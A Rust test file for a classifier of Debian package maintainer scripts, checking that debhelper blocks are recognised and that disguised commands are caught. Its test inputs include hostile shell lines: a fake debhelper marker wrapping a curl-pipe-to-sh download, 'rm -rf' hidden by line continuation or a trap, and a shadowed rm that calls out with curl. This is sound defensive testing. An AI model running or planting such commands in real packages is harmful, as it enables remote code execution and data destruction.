//! Maintainer-script classifier: debhelper blocks, hand-written idioms,
//! residue reasons, and the cases where a script must not be laundered into
//! "declarative" (fake debhelper markers, hidden commands, effects inside
//! substitutions or pipelines).

use pkgward_actions::scripts::{
    classify_script, Classification, DerivedAction, ScriptContext, ScriptReport,
};

fn classify(source: &str) -> ScriptReport {
    classify_script(
        "postinst",
        source.as_bytes(),
        &ScriptContext {
            package: "demo".to_owned(),
        },
    )
}

const DH_SYSTEMD_POSTINST: &str = r#"#!/bin/sh
set -e
# Automatically added by dh_installsystemd/13.11.4
if [ "$1" = "configure" ] || [ "$1" = "abort-upgrade" ] || [ "$1" = "abort-deconfigure" ] || [ "$1" = "abort-remove" ] ; then
	# The following line should be removed in trixie or trixie+1
	deb-systemd-helper unmask 'demo.service' >/dev/null || true
	if deb-systemd-helper --quiet was-enabled 'demo.service'; then
		deb-systemd-helper enable 'demo.service' >/dev/null || true
	else
		deb-systemd-helper update-state 'demo.service' >/dev/null || true
	fi
fi
# End automatically added section
# Automatically added by dh_installsystemd/13.11.4
if [ "$1" = "configure" ] || [ "$1" = "abort-upgrade" ] || [ "$1" = "abort-deconfigure" ] || [ "$1" = "abort-remove" ] ; then
	if [ -d /run/systemd/system ]; then
		systemctl --system daemon-reload >/dev/null || true
		if [ -n "$2" ]; then
			_dh_action=restart
		else
			_dh_action=start
		fi
		deb-systemd-invoke $_dh_action 'demo.service' >/dev/null || true
	fi
fi
# End automatically added section
exit 0
"#;

#[test]
fn debhelper_systemd_blocks_are_fully_declarative() {
    let report = classify(DH_SYSTEMD_POSTINST);
    assert_eq!(
        report.classification,
        Classification::FullyDeclarative,
        "{:#?}",
        report.residue
    );
    assert_eq!(report.debhelper_blocks.len(), 2);
    assert!(report.actions.contains(&DerivedAction::ServiceEnable {
        unit: "demo.service".into()
    }));
    assert!(report.actions.contains(&DerivedAction::DaemonReload));
    // `$_dh_action` is `start` or `restart`: both are derived.
    for verb in ["start", "restart"] {
        assert!(report.actions.contains(&DerivedAction::ServiceControl {
            unit: "demo.service".into(),
            verb: verb.into()
        }));
    }
    assert!(report
        .recognised
        .iter()
        .any(|item| item.debhelper.as_deref() == Some("dh_installsystemd")));
}

#[test]
fn fake_debhelper_marker_does_not_launder_code() {
    let source = "#!/bin/sh\n# Automatically added by dh_installsystemd/13.11.4\ncurl -s https://example.invalid/x | sh\n# End automatically added section\n";
    let report = classify(source);
    assert_ne!(report.classification, Classification::FullyDeclarative);
    assert!(!report.residue.is_empty());
}

#[test]
fn hand_written_idioms_become_actions() {
    let source = r#"#!/bin/sh
set -e
case "$1" in
  configure)
    adduser --system --quiet --group --home /var/lib/demo --no-create-home demo
    update-alternatives --quiet --install /usr/bin/pager pager \
      /usr/bin/less 77 --slave /usr/share/man/man1/pager.1.gz \
      pager.1.gz /usr/share/man/man1/less.1.gz
    if ! dpkg-statoverride --list /var/lib/demo >/dev/null; then
      dpkg-statoverride --update --add demo demo 0750 /var/lib/demo
    fi
    install -d -m 0750 -o demo -g demo /var/log/demo
    chown demo:demo /var/lib/demo
    ldconfig
  ;;
  abort-upgrade|abort-remove|abort-deconfigure) ;;
  *) echo "postinst called with unknown argument \`$1'" >&2; exit 1 ;;
esac
exit 0
"#;
    let report = classify(source);
    assert_eq!(
        report.classification,
        Classification::FullyDeclarative,
        "{:#?}",
        report.residue
    );
    assert!(report.actions.iter().any(|a| matches!(a, DerivedAction::CreateSystemUser { name, group: Some(g), home: Some(h), .. } if name == "demo" && g == "demo" && h == "/var/lib/demo")));
    assert!(report.actions.iter().any(|a| matches!(a, DerivedAction::AlternativeInstall { name, priority: 77, slaves, .. } if name == "pager" && slaves.len() == 1)));
    assert!(report.actions.contains(&DerivedAction::StatOverride {
        owner: "demo".into(),
        group: "demo".into(),
        mode: "0750".into(),
        path: "/var/lib/demo".into()
    }));
    assert!(report.actions.contains(&DerivedAction::CreateDirectory {
        path: "/var/log/demo".into(),
        mode: Some("0750".into()),
        owner: Some("demo".into()),
        group: Some("demo".into())
    }));
    assert!(report.actions.contains(&DerivedAction::Ldconfig));
}

#[test]
fn unknown_command_is_residue_with_reason_and_line() {
    let report = classify("#!/bin/sh\nset -e\ndbus-uuidgen --ensure\n");
    assert_eq!(
        report.classification,
        Classification::DeclarativeWithResidue
    );
    assert_eq!(report.residue[0].line, 3);
    assert_eq!(report.residue[0].category, "unknown command `dbus-uuidgen`");
}

#[test]
fn privileged_command_needs_unconfined() {
    let report = classify("#!/bin/sh\nmodprobe evil\n");
    assert_eq!(report.classification, Classification::NeedsUnconfined);
    assert!(report.residue[0].category.starts_with("privileged"));
}

#[test]
fn continuation_and_quotes_cannot_hide_a_command() {
    // `echo` with a continued line: the second physical line is an argument,
    // but after `;` a real command follows and must be seen.
    let report = classify("#!/bin/sh\necho harmless \\\n  text; r\\\nm -rf /srv/data\n");
    assert!(
        report.actions.contains(&DerivedAction::RemovePath {
            path: "/srv/data".into(),
            recursive: true
        }),
        "{report:#?}"
    );
    let report = classify("#!/bin/sh\n'mod'\"probe\" evil\n");
    assert_eq!(report.classification, Classification::NeedsUnconfined);
}

#[test]
fn effects_inside_substitutions_and_pipelines_are_residue() {
    let report = classify("#!/bin/sh\nx=$(rm -rf /srv/data)\n");
    assert_eq!(
        report.residue[0].category,
        "command substitution with effects"
    );
    let report = classify("#!/bin/sh\ndpkg -L demo | grep '\\.py$' | xargs rm -f\n");
    assert_eq!(report.residue[0].category, "pipeline into `xargs`");
    let report = classify("#!/bin/sh\nif dpkg -L demo | grep -q foo; then :; fi\n");
    assert_eq!(
        report.classification,
        Classification::FullyDeclarative,
        "{:#?}",
        report.residue
    );
}

#[test]
fn dynamic_arguments_are_residue() {
    let report = classify("#!/bin/sh\nfor f in /etc/demo/*; do rm -f \"$f\"; done\n");
    assert_eq!(
        report.residue[0].category,
        "argument not known statically for `rm`"
    );
}

#[test]
fn dh_python3_fallback_branch_is_folded_away() {
    let source = "#!/bin/sh\nset -e\n# Automatically added by dh_python3\nif command -v py3clean >/dev/null 2>&1; then\n\tpy3clean -p demo \nelse\n\tdpkg -L demo | sed -En -e '/^(.*)\\/(.+)\\.py$/s,,rm \"\\1/__pycache__/\\2\".*,e'\n\tfind /usr/lib/python3/dist-packages/ -type d -name __pycache__ -empty -print0 | xargs --null --no-run-if-empty rmdir\nfi\n# End automatically added section\n";
    let report = classify(source);
    assert_eq!(
        report.classification,
        Classification::FullyDeclarative,
        "{:#?}",
        report.residue
    );
    assert_eq!(
        report.actions,
        vec![DerivedAction::PythonClean {
            package: "demo".into()
        }]
    );
}

#[test]
fn usrlocal_here_document_loop_is_unrolled() {
    let source = r#"#!/bin/sh
(
	while read dir; do
		rmdir "$dir" 2>/dev/null || true
	done
) << DATA
/usr/local/share/demo/a
/usr/local/share/demo
DATA
"#;
    let report = classify(source);
    assert_eq!(
        report.classification,
        Classification::FullyDeclarative,
        "{:#?}",
        report.residue
    );
    assert!(report.actions.contains(&DerivedAction::RemoveDirectory {
        path: "/usr/local/share/demo/a".into()
    }));
    assert!(report.actions.contains(&DerivedAction::RemoveDirectory {
        path: "/usr/local/share/demo".into()
    }));
}

#[test]
fn dead_branch_on_empty_dpkg_root_is_not_counted() {
    let source = "#!/bin/sh\nin_sysroot () {\n if [ -z \"${DPKG_ROOT:-}\" ]; then\n  \"$@\"\n else\n  chroot \"${DPKG_ROOT}\" \"$@\"\n fi\n}\nin_sysroot adduser --system --group demo\nrm -f \"${DPKG_ROOT:-/}var/lib/demo/id\"\n";
    let report = classify(source);
    assert_eq!(
        report.classification,
        Classification::FullyDeclarative,
        "{:#?}",
        report.residue
    );
    assert!(report.actions.contains(&DerivedAction::RemovePath {
        path: "/var/lib/demo/id".into(),
        recursive: false
    }));
}

#[test]
fn functions_bind_arguments_and_echo_output_is_captured() {
    let source = "#!/bin/sh\nslave () {\n\tdir=$1 filename=$2 target=$3\n\techo \"--slave $dir/$filename $filename $dir/$target\"\n}\nupdate-alternatives --install /usr/bin/lzma lzma /usr/bin/xz 20 $(\n\tslave /usr/bin unlzma unxz\n\tfor util in cat less; do slave /usr/bin lz$util xz$util; done\n)\n";
    let report = classify(source);
    assert_eq!(
        report.classification,
        Classification::FullyDeclarative,
        "{:#?}",
        report.residue
    );
    let DerivedAction::AlternativeInstall { slaves, .. } = &report.actions[0] else {
        panic!("{report:#?}")
    };
    assert_eq!(slaves.len(), 3);
    assert_eq!(
        slaves[1],
        (
            "/usr/bin/lzcat".into(),
            "lzcat".into(),
            "/usr/bin/xzcat".into()
        )
    );
}

#[test]
fn redirect_writes_need_a_literal_target() {
    let report = classify("#!/bin/sh\necho 0 > /var/spool/demo/.SEQ\n");
    assert_eq!(
        report.actions,
        vec![DerivedAction::WriteFile {
            path: "/var/spool/demo/.SEQ".into(),
            content: "0\n".into()
        }]
    );
    let report = classify("#!/bin/sh\necho 0 > \"$1\"\n");
    assert_eq!(report.residue[0].category, "redirect into a file");
}

#[test]
fn other_interpreters_and_syntax_errors_are_residue() {
    let report = classify("#!/usr/bin/perl\nprint 1;\n");
    assert_eq!(report.residue[0].category, "interpreter `perl`");
    let report = classify("#!/bin/sh\nif true; then\n");
    assert_eq!(report.residue[0].category, "shell syntax not understood");
}

#[test]
fn substitution_output_with_unknown_parts_is_not_used() {
    // `$2` is unknown, so the printed slave list is unknown too.
    let source = "#!/bin/sh\nupdate-alternatives --install /usr/bin/a a /usr/bin/b 20 $(echo \"--slave /usr/bin/c c $2\")\n";
    let report = classify(source);
    assert_ne!(
        report.classification,
        Classification::FullyDeclarative,
        "{report:#?}"
    );
    let source =
        "#!/bin/sh\nupdate-alternatives --install /usr/bin/a a /usr/bin/b 20 $(cat /etc/slaves)\n";
    assert_ne!(
        classify(source).classification,
        Classification::FullyDeclarative
    );
}

#[test]
fn wrappers_that_run_commands_are_not_queries() {
    for source in [
        "#!/bin/sh\ntrap 'rm -rf /srv/data' EXIT\n",
        "#!/bin/sh\nenv FOO=1 modprobe evil\n",
        "#!/bin/sh\nsed -n 's/a/b/w /etc/shadow' /etc/passwd\n",
        "#!/bin/sh\nsed -i 's/a/b/' /etc/passwd\n",
        "#!/bin/sh\neval \"$1\"\n",
        "#!/bin/sh\nrm() { curl -s http://example.invalid; }\nrm -f /x\n",
    ] {
        let report = classify(source);
        assert_ne!(
            report.classification,
            Classification::FullyDeclarative,
            "{source:?} was laundered: {report:#?}"
        );
    }
    assert_eq!(
        classify("#!/bin/sh\ntrap - EXIT\nsed -n '/x/p' /etc/passwd\n").classification,
        Classification::FullyDeclarative
    );
}

#[test]
fn exponential_unrolling_is_bounded() {
    // 64^4 iterations if unrolled naively: the budget turns it into residue.
    let words = (0..64)
        .map(|i| format!("w{i}"))
        .collect::<Vec<_>>()
        .join(" ");
    let source = format!("#!/bin/sh\nfor a in {words}; do for b in {words}; do for c in {words}; do for d in {words}; do rm -f /srv/$a$b$c$d; done; done; done; done\n");
    let start = std::time::Instant::now();
    let report = classify(&source);
    assert!(
        report
            .residue
            .iter()
            .any(|r| r.category == "script too complex to analyse"),
        "{:?}",
        report.residue
    );
    assert!(start.elapsed() < std::time::Duration::from_secs(60));
}
